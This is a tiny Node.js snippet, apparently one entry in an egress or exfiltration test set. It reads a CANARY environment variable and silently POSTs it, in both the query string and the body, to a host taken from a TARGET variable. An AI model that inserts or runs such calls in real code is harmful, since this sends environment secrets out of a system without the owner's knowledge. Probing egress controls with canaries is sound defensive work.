// tries: the value by Node's fetch
// ends: nothing
// needs: node
fetch("https://" + process.env.TARGET + "/?v=" + encodeURIComponent(process.env.CANARY), { method: "POST", body: JSON.stringify({ v: process.env.CANARY }) }).catch(() => {});
